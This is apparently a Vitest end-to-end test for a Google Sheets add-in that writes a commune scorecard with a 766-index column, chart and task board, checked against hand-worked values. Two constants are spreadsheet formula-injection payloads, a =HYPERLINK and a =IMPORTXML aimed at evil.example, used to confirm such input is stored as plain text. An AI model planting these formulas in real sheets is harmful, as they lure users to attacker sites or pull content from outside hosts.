/**
 * The leadership sheet's 766 column and chart and its task board (issue 15), written by the built
 * add-in in the Apps Script fake from the local stack's scorecard of a hand-made plan: three
 * communes, A and B reporting for 2024-Q4, C not; three tasks. Expected values are worked out
 * below by hand (INDEX-766.md; docs/index-766.md for the rules the source leaves open).
 *
 * A: 30 dossiers, all online, all resolved early or on time; 5 of 20 fee dossiers paid online;
 *    every other count at its whole. Every indicator at full points but 3.6:
 *    3.6 = 5 ÷ 20 = 0.25 → 0.25 × 6 = 1.5, so A = 64 − 6 + 1.5 = 59.5 / 64.
 * B: communeReport(15, 18): online 10, direct 20; early 15, onTime 10, late 2, pendingOnTime 3.
 *    2.1  (15 + 10 + 3) ÷ 30 = 28/30 → 20 × 28/30      = 18.666667
 *    G3   10 ÷ 30                    → 12 × 1/3         =  4
 *    3.6  15 ÷ 20 = 0.75             → 6 × 0.75         =  4.5
 *    4.1  18 ÷ 27 resolved           → 6 × 18/27        =  4
 *    4.2  25 ÷ 30 = 0.833 ≥ 0.8      → full             =  4
 *    e-copies 2 ÷ 10                 → 2 × 0.2          =  0.4
 *    4.3  12 ÷ 30 = 0.4 < 0.8        → 2 × 0.4 ÷ 0.8    =  1
 *    5.2  1 ÷ 2                      → 6 × 0.5          =  3
 *    5.4  (30 − 2 late − (20 − 18) unhappy) ÷ 30 = 26/30 = 0.8667 < 0.9 → 6 × 0.8667 ÷ 0.9 = 5.777778
 *    B = 45.344444 / 64.
 *    B's points to gain, each indicator brought to its full-points threshold with the same base:
 *    G3 12 − 4 = 8 with 30 − 10 = 20 more online; 5.2 6 − 3 = 3 with 1 more; 4.1 6 − 4 = 2 with
 *    27 − 18 = 9 more; e-copies 2 − 0.4 = 1.6 with 8; 3.6 6 − 4.5 = 1.5 with 5; 2.1 1.333 with 2;
 *    4.3 1 with 0.8 × 30 − 12 = 12; 5.4 0.222 with 0.9 × 30 − 26 = 1.
 * C: no report: no data, a blank cell (not 0 points).
 * The plan: A's and B's counts summed (never a mean):
 *    2.1 58/60 → 19.333333; G3 40/60 → 8; 3.6 20/40 → 3; 4.1 48/57 → 5.052632; 4.2 55/60 ≥ 0.8 → 4;
 *    e-copies 12/20 → 1.2; 4.3 42/60 = 0.7 → 1.75; 5.2 3/4 → 4.5; 5.4 56/60 ≥ 0.9 → 6
 *    = 52.835965 / 64.
 * Tasks, Q4 ending 2024-12-31 (computed in 2026, so the cutoff is the quarter's end):
 *    1 due 2024-08-31: A done (evidence: a document whose number looks like a formula), B in
 *      progress → overdue, C no report → overdue. Counts 1 done, 1 in progress, 0 not started, 2 overdue.
 *    2 due 2025-01-10, after the quarter: A in progress (a link), B not mentioned → not started; none overdue.
 *    3 no due date: A not started, B done; none overdue.
 */
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OVERDUE_COLOR } from '../../addon/server/scorecard/task-board.js';
import type { Scorecard } from '../../shared/engine/scorecard-model.js';
import type { ReportData } from '../../shared/report/schema.js';
import { INDEX766_HELP } from '../../shared/engine/index766/words.js';
import { launchBrowser } from '../helpers/browser.js';
import { buildOnce, openAddon, ROOT, type AddonSession } from './helpers/addon.js';
import { commune, communeReport, groupedPlan } from './helpers/grouped-plan.js';
import { apiChartRows, chartsOf, sheetOf, values } from './helpers/scorecard-sheet.js';
import { savePicture } from './helpers/sheet-picture.js';
import { startAddonStack, type AddonStack } from './helpers/stack.js';

const ADMIN = 'admin@localhost';
const PLAN = 'tasks-766-2024';
const PERIOD = '2024-Q4';
const OFFICE = 'office@tasks766.vn';
const REPORTER = 'xa-b@tasks766.vn';
const FORMULA_NUMBER = '=HYPERLINK("https://evil.example","bấm")';
const FORMULA_TITLE = '=IMPORTXML("https://evil.example","//a")';
const TASKS = [
  { id: 1, title: 'Rà soát, công bố danh mục TTHC', due: '2024-08-31', evidence: 'document' },
  { id: 2, title: FORMULA_TITLE, due: '2025-01-10', evidence: 'link' },
  { id: 3, title: 'Báo cáo định kỳ' },
];

const perfect: ReportData = {
  dossiers: [{ field: 'ho-tich', online: 30, direct: 0, carriedOver: 0, early: 20, onTime: 10, late: 0, pendingOnTime: 0, pendingOverdue: 0 }],
  procedures: { total: 100, oneStop: 100 },
  digital: { digitizedDossiers: 30, digitizedResults: 30, electronicResults: 30, feeDossiers: 20, paidOnline: 5, reusedData: 30, processedOnSystem: 30, certifiedCopies: 10, eCertifiedCopies: 10 },
  satisfaction: { ratings: 20, satisfied: 20, lciRatings: 5, lciSatisfied: 5 },
  feedback: { received: 2, resolved: 2, resolvedOnTime: 2 },
  office: { brandIdentity: true },
  tasks: [
    { task: 1, status: 'done', evidence: { number: FORMULA_NUMBER, date: '2024-08-20' } },
    { task: 2, status: 'in-progress', evidence: { url: 'https://tuky.gov.vn/bao-cao/2' } },
  ],
};
const partial: ReportData = { ...communeReport(15, 18), tasks: [{ task: 1, status: 'in-progress' }, { task: 3, status: 'done' }] };

let stack: AddonStack;
let office: AddonSession;
let reporter: AddonSession;
let browser: Browser;
let card: Scorecard;
let spent: number;

beforeAll(async () => {
  [, stack, browser] = await Promise.all([buildOnce(), startAddonStack({ DEMO: '0' }), launchBrowser()]);
  const plan = { ...groupedPlan(PLAN, 'Thử 766 và nhiệm vụ', [], [commune('xa-a', 'Xã A', []), commune('xa-b', 'Xã B', []), commune('xa-c', 'Xã C', [])]), tasks: TASKS };
  const put = await stack.api(`/v1/plans/${PLAN}`, { as: ADMIN, method: 'PUT', body: plan });
  expect(put.status, JSON.stringify(put.body)).toBe(201);
  await stack.api(`/v1/plans/${PLAN}/members/${OFFICE}`, { as: ADMIN, method: 'PUT', body: { role: 'reviewer' } });
  await stack.api(`/v1/plans/${PLAN}/members/${REPORTER}`, { as: ADMIN, method: 'PUT', body: { role: 'reporter', unitId: 'xa-b' } });
  for (const [unitId, data] of [['xa-a', perfect], ['xa-b', partial]] as const) {
    const posted = await stack.api(`/v1/plans/${PLAN}/reports`, { as: ADMIN, method: 'POST', body: { unitId, period: PERIOD, data } });
    expect(posted.status, JSON.stringify(posted.body)).toBe(201);
  }
  office = openAddon({ userEmail: OFFICE, ...stack.reachable });
  office.call('saveSettings', { apiUrl: stack.apiUrl, planId: PLAN }, 'vi');
  office.call('computeScorecard', PERIOD, 'vi');
  card = (await stack.api<Scorecard>(`/v1/plans/${PLAN}/scorecards/${PERIOD}`, { as: OFFICE })).body;
  office.fake.calls.reset();
  office.call('writeScorecardSheet', PERIOD, 'vi');
  spent = office.fake.calls.document;
  await savePicture(browser, office, 'Bảng điểm KPI', 'A1:U28', join(ROOT, 'test-artifacts', 'addon-scorecard-sheet-766-tasks.png'));
}, 120_000);

afterAll(async () => {
  await Promise.all([office, reporter].map((s) => s?.fake.dispose()));
  await browser?.close();
  await stack?.stop();
});

/** Rows 7–9 hold the units in the API's rank order. */
const unitRow = (unitId: string) => 7 + card.units.findIndex((u) => u.unitId === unitId);

describe('the 766 column', () => {
  it('is headed as an estimate, with the help text as the header\'s note', () => {
    expect(values(office, 'U3')).toEqual([['Chỉ số 766 (ước tính)']]);
    expect(office.fake.read(() => sheetOf(office)!.getRange('U3').getNote())).toBe(INDEX766_HELP.vi);
  });

  it('holds the API\'s points, which are the hand-worked ones, the ceiling in the number format', () => {
    const byUnit = new Map(card.units.map((u) => [u.unitId, u.index766]));
    expect(byUnit.get('xa-a')!.points).toBeCloseTo(59.5, 5);
    expect(byUnit.get('xa-b')!.points).toBeCloseTo(45.344444, 5);
    expect(card.district.index766.points).toBeCloseTo(52.835965, 5);
    expect(values(office, 'U6')[0]![0]).toBe(card.district.index766.points);
    expect(values(office, `U${unitRow('xa-a')}`)[0]![0]).toBe(byUnit.get('xa-a')!.points);
    expect(values(office, `U${unitRow('xa-b')}`)[0]![0]).toBe(byUnit.get('xa-b')!.points);
    expect(values(office, `U${unitRow('xa-c')}`)[0]![0]).toBe(''); // no data, not 0
    // The ceiling is in the number format: "59.5 / 64".
    const format = (row: number) => office.fake.read(() => sheetOf(office)!.getRange(`U${row}`).getNumberFormat());
    expect([6, unitRow('xa-a'), unitRow('xa-b')].map(format)).toEqual(['0.0" / 64"', '0.0" / 64"', '0.0" / 64"']);
    expect(format(unitRow('xa-c'))).toBe('@');
  });

  it('leaves the KPI columns where they were: D is still the first KPI', () => {
    expect(String(values(office, 'C3')[0]![0])).toBe('Điểm (%)');
    expect(String(values(office, 'T3')[0]![0])).toMatch(/\(%\)$/);
  });
});

describe('the sidebar\'s 766 estimate', () => {
  it('shows the plan\'s to the office, and a reporter its own unit\'s with the points to gain, largest first', () => {
    const view = office.call('getScorecard', PERIOD, 'vi').index766;
    expect([view.total, view.unit, view.gains]).toEqual(['Chỉ số 766 (ước tính): 52,8/64 điểm', null, []]);
    reporter = openAddon({ userEmail: REPORTER, ...stack.reachable });
    reporter.call('saveSettings', { apiUrl: stack.apiUrl, planId: PLAN }, 'vi');
    const own = reporter.call('getScorecard', PERIOD, 'vi').index766;
    expect(own.unit).toBe('Xã B: 45,3/64 điểm (ước tính)');
    expect(own.gains.slice(0, 3)).toEqual([
      '20 hồ sơ nữa nộp trực tuyến thay vì trực tiếp → +8,0 điểm',
      '1 phản ánh, kiến nghị nữa xử lý đúng hạn → +3,0 điểm',
      '9 hồ sơ nữa có kết quả điện tử → +2,0 điểm',
    ]);
    expect(own.gains).toHaveLength(8); // 4.2 is at full points already
    expect(own.indicators.find((i) => i.id === '3.6')!.value).toBe('75,0% · 4,5/6');
  });
});

describe('the 766 chart', () => {
  it('is one native chart over the API\'s index766 data, right of the table', () => {
    const spec = card.charts.find((c) => c.id === 'index766')!;
    const drawn = chartsOf(office).filter((c) => c.title === spec.title);
    expect(drawn).toHaveLength(1);
    expect(drawn[0]!.data).toEqual(apiChartRows(card, 'index766'));
    const a1 = office.fake.read(() => sheetOf(office)!.getCharts().find((c) => c.getOptions().get('title') === spec.title)!.getRanges()[0]!.getA1Notation());
    expect(a1).toMatch(/^V\d+:[V-Z]\d+$/);
    expect(chartsOf(office)).toHaveLength(5);
  });
});

describe('the task board', () => {
  // Units end at row 9; a blank row, then the board at 11: title, the 3 tasks' titles, a blank
  // row, the header (16), due dates (17), four counts (18–21), then the units (22–24).
  it('lists the tasks by number with their titles, a formula-looking title as text', () => {
    expect(values(office, 'B11:C14')).toEqual([
      ['Tiến độ các nhiệm vụ của kế hoạch', ''],
      ['Nhiệm vụ 1', 'Rà soát, công bố danh mục TTHC'],
      ['Nhiệm vụ 2', FORMULA_TITLE],
      ['Nhiệm vụ 3', 'Báo cáo định kỳ'],
    ]);
  });

  it('shows each task\'s due date and the API\'s counts', () => {
    expect(values(office, 'B16:E21')).toEqual([
      ['Đơn vị', 'Nhiệm vụ 1', 'Nhiệm vụ 2', 'Nhiệm vụ 3'],
      ['Hạn', '31/08/2024', '10/01/2025', 'Không đặt hạn'],
      ['Hoàn thành', 1, 0, 1],
      ['Đang thực hiện', 1, 1, 0],
      ['Chưa thực hiện', 0, 1, 1],
      ['Quá hạn', 2, 0, 0],
    ]);
    expect(card.tasks.map((t) => [t.done, t.inProgress, t.notStarted, t.overdue])).toEqual([[1, 1, 0, 2], [0, 1, 1, 0], [1, 0, 1, 0]]);
  });

  it('gives each unit its status, overdue in words and in red only after the due date', () => {
    const rows = Object.fromEntries(values(office, 'B22:E24').map((r) => [r[0], r.slice(1)]));
    expect(rows).toEqual({
      'Xã A': ['Hoàn thành', 'Đang thực hiện', 'Chưa thực hiện'],
      'Xã B': ['Quá hạn · Đang thực hiện', 'Chưa thực hiện', 'Hoàn thành'],
      'Xã C': ['Quá hạn · Không có báo cáo', 'Không có báo cáo', 'Không có báo cáo'],
    });
    const colors = office.fake.renderedFormats(sheetOf(office)!.getRange('B22:E24')).map((r) => r.map((f) => f.background));
    const red = (name: string) => colors[Object.keys(rows).indexOf(name)]!.slice(1).map((c) => c === OVERDUE_COLOR);
    // Task 1 was due before the quarter ended; task 2 falls due after it; task 3 has no due date.
    expect(red('Xã A')).toEqual([false, false, false]);
    expect(red('Xã B')).toEqual([true, false, false]);
    expect(red('Xã C')).toEqual([true, false, false]);
    // The overdue count of task 1 is red too.
    expect(office.fake.renderedFormats(sheetOf(office)!.getRange('C21:E21'))[0]!.map((f) => f.background === OVERDUE_COLOR)).toEqual([true, false, false]);
  });

  it('lists the evidence as text: a formula-looking number never becomes a formula', () => {
    expect(values(office, 'B26:D28')).toEqual([
      ['Minh chứng đơn vị đã báo cáo', '', ''],
      ['Xã A', 'Nhiệm vụ 1', `Văn bản số ${FORMULA_NUMBER} ngày 20/08/2024`],
      ['Xã A', 'Nhiệm vụ 2', 'https://tuky.gov.vn/bao-cao/2'],
    ]);
    expect(office.fake.read(() => sheetOf(office)!.getDataRange().getFormulas().flat().filter(Boolean))).toEqual([]);
  });
});

it('writes the sheet within its budget of 25 document calls', () => {
  expect(spent).toBeLessThanOrEqual(25);
});
